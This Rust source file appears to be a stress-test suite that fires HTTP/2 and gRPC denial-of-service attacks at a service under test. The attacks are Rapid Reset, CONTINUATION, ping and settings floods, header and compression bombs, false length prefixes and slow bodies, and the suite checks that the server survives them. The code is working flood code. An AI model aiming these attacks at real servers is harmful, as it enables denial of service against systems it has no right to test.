//! What HTTP/2 lets a caller do to a server.

use std::io;

use super::caller::{Caller, Request};
use super::frames::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, call, field, frame,
    message,
};
use super::{Attack, Target};

const GET_OFFERS: &str = "/nbo.v1.DecisionService/GetOffers";

/// What `RST_STREAM` says when the caller has changed its mind.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// The highest number of a stream; a connection is given up well before.
const STREAM_MAX: u32 = 1 << 30;

/// CVE-2023-44487: each stream is reset as soon as it is open, so that no limit on open streams is reached.
pub(super) const RAPID_RESET: Attack = Attack {
    name: "rapid reset",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 1_000,
    run: |target| {
        let block = call(GET_OFFERS, &[]);
        let cut = repeat(target, &mut |connection, stream| {
            let mut bytes = Vec::new();
            for number in (0..100).map(|number| stream + 2 * number) {
                bytes.extend(frame(HEADERS, END_HEADERS, number, &block));
                bytes.extend(frame(RST_STREAM, 0, number, &CANCEL));
                target.blow();
            }
            connection.send(&bytes)?;
            Ok(200)
        });
        assert!(cut > 0, "nobody was cut off");
    },
};

/// CVE-2024-27316 and others: headers that never end, which have to be kept until they do.
pub(super) const CONTINUATION_FLOOD: Attack = Attack {
    name: "continuation flood",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 100,
    run: |target| {
        let block = call(GET_OFFERS, &[]);
        let mut more = Vec::new();
        field("x-more", &"a".repeat(16_000), &mut more);
        let cut = repeat(target, &mut |connection, stream| {
            connection.send(&frame(HEADERS, 0, stream, &block))?;
            while !target.is_over() {
                connection.send(&frame(CONTINUATION, 0, stream, &more))?;
                // Empty ones cost the caller nothing, and count as well.
                connection.send(&frame(CONTINUATION, 0, stream, &[]).repeat(100))?;
                target.blow();
            }
            Ok(2)
        });
        assert!(cut > 0, "nobody was cut off");
    },
};

/// CVE-2019-9512: each ping has to be answered, also to a caller that does not read.
pub(super) const PING_FLOOD: Attack = Attack {
    name: "ping flood",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 20,
    run: |target| flood(target, &frame(PING, 0, 0, &[7; 8])),
};

/// CVE-2019-9515: each of the settings has to be acknowledged, also to a caller that does not read.
pub(super) const SETTINGS_FLOOD: Attack = Attack {
    name: "settings flood",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 20,
    // The size of the table of headers, and the window of new streams.
    run: |target| {
        flood(
            target,
            &frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0, 0, 4, 0, 0, 255, 255]),
        );
    },
};

/// Headers of many bytes, of many fields, and few bytes that stand for very many.
pub(super) const OVERSIZED_HEADERS: Attack = Attack {
    name: "oversized headers",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 20,
    run: |target| {
        let mut long = call(GET_OFFERS, &[]);
        field("x-long", &"a".repeat(1 << 20), &mut long);
        let mut many = call(GET_OFFERS, &[]);
        (0..20_000).for_each(|number| field(&format!("x-{number}"), "", &mut many));
        // One field is put into the table, and named twenty thousand times.
        let mut bomb = call(GET_OFFERS, &[]);
        let kept = bomb.len();
        field("x-bomb", &"a".repeat(3_900), &mut bomb);
        bomb[kept] = 0x40;
        bomb.extend([0b1011_1110; 20_000]);
        let mut turn = [long, many, bomb].into_iter().cycle();
        repeat(target, &mut |connection, stream| {
            let block = turn.next().unwrap();
            let mut parts = block.chunks(16_000).peekable();
            let mut kind = HEADERS;
            while let Some(part) = parts.next() {
                let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
                connection.send(&frame(kind, flags, stream, part))?;
                kind = CONTINUATION;
            }
            connection.send(&frame(DATA, END_STREAM, stream, &[]))?;
            target.blow();
            Ok(2)
        });
    },
};

/// Messages that are longer, much longer, or shorter than they say.
pub(super) const LYING_LENGTHS: Attack = Attack {
    name: "lying lengths",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 50,
    run: |target| {
        let bodies = [
            (message(false, u32::MAX, b"short"), "11"),
            // The smallest negative number, for whoever reads it so.
            (message(false, 1 << 31, b"short"), "11"),
            (message(false, 1024 * 1024 + 1, b"short"), "11"),
            // Within the limit, but never sent.
            (message(false, 1024 * 1024, b"short"), "13"),
            // A field that says it is longer than the message.
            (message(false, 6, &[0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f]), "13"),
            // Neither compressed nor not.
            ([&[2, 0, 0, 0, 0][..]].concat(), "13"),
        ];
        let requests = || bodies.iter().map(|(body, _)| Request::grpc(GET_OFFERS, body)).collect();
        Caller::new(target).again(target, requests, |number, answer| {
            let (body, expected) = &bodies[number];
            assert_eq!(answer.grpc_status.as_deref(), Some(*expected), "{body:?}: {answer:?}");
        });
    },
};

/// A few bytes that unpack to gigabytes: no compression is taken, so they are never unpacked.
pub(super) const COMPRESSED_BOMB: Attack = Attack {
    name: "compressed bomb",
    memory_mib_max: 48,
    attackers: 2,
    blows_min: 4,
    run: |target| {
        let bomb = super::caller::bomb();
        let body = message(true, u32::try_from(bomb.len()).unwrap(), &bomb);
        let requests = || {
            let said = ["gzip", "deflate", "zstd", "nonsense"];
            let said = said.map(|said| Request::grpc(GET_OFFERS, &body).with("grpc-encoding", said));
            // And one that does not say how.
            said.into_iter().chain([Request::grpc(GET_OFFERS, &body)]).collect()
        };
        Caller::new(target).again(target, requests, |_, answer| {
            let refused = ["12", "13"].map(Some).contains(&answer.grpc_status.as_deref());
            assert!(refused, "{answer:?}");
        });
    },
};

/// Messages that are nearly whole and never become so: each has to be kept until its call's time is over.
pub(super) const SLOW_BODIES: Attack = Attack {
    name: "slow bodies",
    // What is kept of messages that are not whole, and half as much for what comes meanwhile.
    memory_mib_max: 384,
    attackers: 2,
    blows_min: 100,
    run: |target| {
        // Of the longest message that is taken, all but a byte.
        let whole = 4 * 1024 * 1024;
        let begun = message(false, whole, &vec![0; whole as usize - 1]);
        Caller::new(target).leave_open(target, GET_OFFERS, &begun.into());
    },
};

/// Sends a frame that has to be answered, to a server that is listened to and to one that is not.
fn flood(target: &Target, frame: &[u8]) {
    let many = frame.repeat(1_000);
    repeat(target, &mut |connection, _| {
        connection.send(&many)?;
        target.blow();
        Ok(0)
    });
}

/// Does `blow` with the next free stream until it is over, over new connections as often as it is cut off; returns how often
/// it was. `blow` returns by how much the number of the stream goes on. Every other connection does not read.
fn repeat(target: &Target, blow: &mut dyn FnMut(&mut Connection, u32) -> io::Result<u32>) -> u64 {
    let mut cut = 0;
    let mut reads = true;
    while !target.is_over() {
        let opened = if reads {
            Connection::http2(target.address)
        } else {
            Connection::http2_unread(target.address)
        };
        reads = !reads;
        let Ok(mut connection) = opened else {
            continue;
        };
        let mut stream = 1;
        while !target.is_over() && stream < STREAM_MAX {
            let Ok(used) = blow(&mut connection, stream) else {
                cut += 1;
                break;
            };
            stream += used;
        }
    }
    cut
}
